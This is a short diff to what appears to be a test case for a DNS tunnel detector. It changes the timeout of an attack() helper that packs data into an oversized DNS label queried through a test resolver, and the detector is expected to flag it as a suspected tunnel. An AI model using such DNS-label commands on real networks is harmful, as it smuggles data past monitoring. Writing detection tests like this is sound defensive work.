@@ -4,4 +4,4 @@
 title='Data in long labels under a wildcard, beyond the budget for labels' origin='RESEARCH §2.36'
 sink=s reason=tunnel_suspected
 extra=(short.test$'\n    dns: { budget: { label_bytes: 40 } }')
-attack() { client dig +tries=1 +timeout=1 @198.18.2.53 "a.$(printf '%-63s' "$1" | tr ' ' q).b.wild.test"; }
+attack() { client dig +tries=1 +timeout=10 @198.18.2.53 "a.$(printf '%-63s' "$1" | tr ' ' q).b.wild.test"; }
